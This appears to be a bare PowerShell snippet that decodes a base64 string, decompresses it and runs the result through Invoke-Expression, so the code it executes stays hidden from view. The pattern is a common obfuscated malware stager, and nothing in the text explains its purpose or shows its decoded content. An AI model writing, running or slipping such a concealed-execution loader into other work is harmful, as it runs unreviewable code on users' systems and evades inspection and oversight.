$m = [IO.MemoryStream]::new([Convert]::FromBase64String('c0xJ0fXJT07McS/KLy3wTc1NSi1S0AVzFBxTcjPzMotLihJL8ouKFXShsp6hwUEA'))
$s = [IO.Compression.DeflateStream]::new($m, [IO.Compression.CompressionMode]::Decompress)
iex ([IO.StreamReader]::new($s, [Text.Encoding]::ASCII)).ReadToEnd()
